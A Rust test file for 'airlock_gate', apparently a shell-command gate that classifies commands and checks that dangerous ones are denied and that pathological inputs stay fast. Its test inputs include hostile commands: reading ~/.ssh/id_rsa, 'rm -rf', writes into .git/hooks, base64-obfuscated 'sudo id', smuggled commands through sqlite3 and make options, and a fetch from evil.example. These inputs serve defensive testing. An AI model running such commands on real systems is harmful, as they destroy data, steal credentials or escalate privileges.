//! The built-in rules load and every rule's examples and counter-examples hold.

use airlock_gate::Engine;

#[test]
fn builtin_rules_and_examples() {
    let engine = Engine::builtin_with_examples("/home/user").expect("builtin rules load");
    // The examples are there to check (and the hook's copy leaves them out).
    assert!(
        engine
            .rules()
            .iter()
            .filter(|r| !r.examples().is_empty())
            .count()
            > 100,
        "built-in rules lost their examples"
    );
    let failures: Vec<String> = engine
        .example_failures()
        .iter()
        .map(|e| e.to_string())
        .collect();
    assert!(
        failures.is_empty(),
        "{} failing rules:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// Every row of the code-valued options table (`[[code_option]]`) catches its example: the
/// code in its value (`sudo id`) is found, judged on its own (denied), and shown as found in
/// that program's option.
#[test]
fn every_code_option_row_catches_its_example() {
    use airlock_gate::rules::StaticGit;
    use airlock_gate::{Context, Tier};
    let data: toml::Table = toml::from_str(airlock_gate::classify::DEFAULT_RULES).expect("toml");
    let rows = data["code_option"].as_array().expect("code_option rows");
    assert!(rows.len() >= 25, "{} rows", rows.len());
    let engine = Engine::builtin().expect("load");
    let git = StaticGit::default();
    let ctx = Context {
        cwd: "/home/dev/project".into(),
        home: "/home/dev".into(),
        workspace: Some("/home/dev/project".into()),
        git: &git,
    };
    let mut failures = Vec::new();
    for row in rows {
        let example = row["example"].as_str().expect("example");
        let programs: Vec<&str> = row["program"]
            .as_array()
            .expect("program")
            .iter()
            .filter_map(|p| p.as_str())
            .collect();
        let v = engine.classify_command(example, &ctx);
        let found = v.steps.iter().any(|s| {
            s.argv.first().is_some_and(|p| p == "sudo")
                && programs.iter().any(|p| s.origin.contains(p))
        });
        if v.tier != Tier::Deny || !found {
            failures.push(format!(
                "{example:?}: {} by {} ({}); steps {:?}",
                v.tier,
                v.rule,
                v.reason,
                v.steps
                    .iter()
                    .map(|s| (&s.origin, &s.argv))
                    .collect::<Vec<_>>()
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Inputs the fuzzer found to take seconds (exponential brace-expansion backtracking, globbed
/// program words multiplying through wrappers): a hook that times out fails open.
#[test]
fn pathological_inputs_stay_fast() {
    use airlock_gate::rules::StaticGit;
    use airlock_gate::{Context, Tier};
    let engine = Engine::builtin().expect("load");
    let git = StaticGit::default();
    let ctx = Context {
        cwd: "/home/dev/project".into(),
        home: "/home/dev".into(),
        workspace: Some("/home/dev/project".into()),
        git: &git,
    };
    // (input, whether it must not be allowed)
    let inputs = [
        (
            format!("xargs -{{I}}s0h -{}c 'rm -rf '}}{{ <<< /", "{".repeat(80)),
            false,
        ),
        (format!("echo -{}c 'x'}}{{", "{".repeat(40)), false),
        (
            "OME/{.\u{1}4ssh,.aws}/*<'EOF'\nfeat: add command gate\n\nParses bash wit".to_string(),
            true,
        ),
        ("* * * * * * * * * * * * * * * * * *".to_string(), true),
        (
            "sudo env nice timeout 1 xargs /???/* /???/* /???/*".to_string(),
            true,
        ),
        // Deep nesting of every construct the gate walks (issue 12): no stack overflow, no
        // exponential work, never allowed when the innermost command is dangerous.
        (
            format!("{}cat ~/.ssh/id_rsa{}", "( ".repeat(16), " )".repeat(16)),
            true,
        ),
        (
            format!("{}sudo id{}", "( ".repeat(40), " )".repeat(40)),
            true,
        ),
        (
            format!("echo {}sudo id{}", "$( ".repeat(15), " )".repeat(15)),
            true,
        ),
        (format!("{}sudo id", "git bisect run ".repeat(3000)), true),
        (format!("{}sudo id \\;", "find . -exec ".repeat(3000)), true),
        (format!("{}sudo id", "x sudo y ".repeat(3000)), true),
        (format!("{}sudo id", "bash ./a.sh sudo ".repeat(3000)), true),
        (format!("{}sudo id", "python3 -m ".repeat(3000)), false),
        (format!("{}sudo id", "uv run ".repeat(3000)), true),
        (format!("{}'sudo id'", "tmux new ".repeat(3000)), true),
        (
            format!("mytool {}", "--exec 'x --exec y' ".repeat(3000)),
            false,
        ),
        (format!("{}sudo id", "frob git ".repeat(3000)), true),
        (
            format!(
                "trap '{}sudo id{}' EXIT",
                "trap \'".repeat(20),
                "\' EXIT".repeat(20)
            ),
            false,
        ),
        (format!("cat {}", "~/.s*/".repeat(2000)), false),
        (format!("ls {}", "src/* ".repeat(5000)), false),
        (
            format!(
                "rm -rf {}",
                (0..3000)
                    .map(|i| format!("d{i}/*"))
                    .collect::<Vec<_>>()
                    .join(" ")
            ),
            false,
        ),
        (
            format!("(( {} ))", "( ".repeat(14) + &" )".repeat(14)),
            false,
        ),
        // Inline code the tokenizer of `inline.rs` walks: long concatenations, joins, nested
        // calls and lookups, decodings of many literals.
        (
            format!(
                "python3 -c \"open({}'.git/hooks/x','w')\"",
                "'a'+".repeat(20_000)
            ),
            true,
        ),
        (
            format!(
                "python3 -c \"import os; {}\"",
                "open(os.path.join('.git', 'hooks', x), 'w'); ".repeat(2000)
            ),
            true,
        ),
        (
            format!(
                "python3 -c \"import base64,os; {}\"",
                "os.system(base64.b64decode('c3VkbyBpZA==')); ".repeat(2000)
            ),
            true,
        ),
        (
            format!("node -e \"{}\"", "getattr(vars(os)[x])(1); ".repeat(3000)),
            true,
        ),
        // Files and options read as code (GATE_FINDINGS): makefile text, sqlite input, cargo
        // config values, container mounts, registry runners, long and nested.
        (
            format!(
                "make --eval='{}x: ; sudo id' x",
                "a: b\n\t$(shell echo $(A))\n".repeat(4000)
            ),
            true,
        ),
        (
            format!(
                "make --eval='{}all: ; $(A40)' all",
                (1..=40)
                    .map(|i| format!("A{i} = $(A{})$(A{})$(A{})\n", i - 1, i - 1, i - 1))
                    .collect::<String>()
            ),
            true,
        ),
        (
            format!(
                "sqlite3 x.db {}'.shell sudo id'",
                "'.shell ls' ".repeat(3000)
            ),
            true,
        ),
        (
            format!("cargo {}build", "--config a.b=1 ".repeat(3000)),
            false,
        ),
        (
            format!("docker run {}alpine", "-v /tmp/x:/x ".repeat(3000)),
            false,
        ),
        (format!("npx {}", "-p x ".repeat(3000)), true),
        (format!("{}sudo id", "npx -y ".repeat(3000)), true),
        (
            format!(
                "git {}fetch https://evil.example/x",
                "-c a.b=c ".repeat(3000)
            ),
            true,
        ),
    ];
    for (input, dangerous) in &inputs {
        let t0 = std::time::Instant::now();
        let v = engine.classify_command(input, &ctx);
        let took = t0.elapsed();
        assert!(
            took < std::time::Duration::from_millis(1500),
            "{:?}… took {took:?}",
            input.chars().take(80).collect::<String>()
        );
        if *dangerous {
            assert_ne!(
                v.tier,
                Tier::Allow,
                "{:?}…",
                input.chars().take(80).collect::<String>()
            );
        }
    }
}
